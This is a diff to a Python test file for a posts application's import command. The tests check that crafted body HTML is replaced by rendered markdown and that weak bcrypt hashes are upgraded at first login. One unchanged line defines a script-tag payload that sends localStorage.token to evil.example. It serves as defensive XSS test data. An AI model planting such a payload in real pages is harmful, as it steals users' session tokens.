@@ -3,9 +3,11 @@ at a cost this server would pay anyway."""
 
 from __future__ import annotations
 
+import copy
 import json
 from datetime import datetime
 
+import pytest
 from passlib.hash import bcrypt
 from sqlalchemy import select
 
@@ -21,8 +23,10 @@ from tests.support.posts import API
 SCRIPT = '<script>fetch("https://evil.example/?" + localStorage.token)</script>'
 
 
+@pytest.fixture(scope="module")
 def exported() -> list[dict]:
-    """An export of an admin, two seeded authors and six posts, as parsed records."""
+    """An export of an admin, two seeded authors and six posts, as parsed records (made before
+    the test's own app empties the database, which on PostgreSQL is the same one)."""
     source = make_app()
     try:
         runner = source.test_cli_runner()
@@ -48,8 +52,10 @@ def import_records(runner, tmp_path, records: list[dict]) -> None:
     assert result.exit_code == 0, result.output
 
 
-def test_a_crafted_body_html_is_replaced_by_the_rendered_body(app, client, runner, tmp_path):
-    records = exported()
+def test_a_crafted_body_html_is_replaced_by_the_rendered_body(
+    exported, app, client, runner, tmp_path
+):
+    records = copy.deepcopy(exported)
     posts = [r for r in records if r["type"] == "post" and is_public(r)]
     assert posts
     for post in posts:
@@ -62,8 +68,10 @@ def test_a_crafted_body_html_is_replaced_by_the_rendered_body(app, client, runne
         assert served["body_html"] == render_markdown(post["body"])
 
 
-def test_a_cheaper_hash_is_imported_and_upgraded_at_the_first_login(app, client, runner, tmp_path):
-    records = exported()
+def test_a_cheaper_hash_is_imported_and_upgraded_at_the_first_login(
+    exported, app, client, runner, tmp_path
+):
+    records = copy.deepcopy(exported)
     root = next(r for r in records if r["type"] == "user" and r["username"] == "root")
     root["password_hash"] = bcrypt.using(rounds=4).hash(PASSWORD)  # an old, cheap bcrypt hash
     import_records(runner, tmp_path, records)
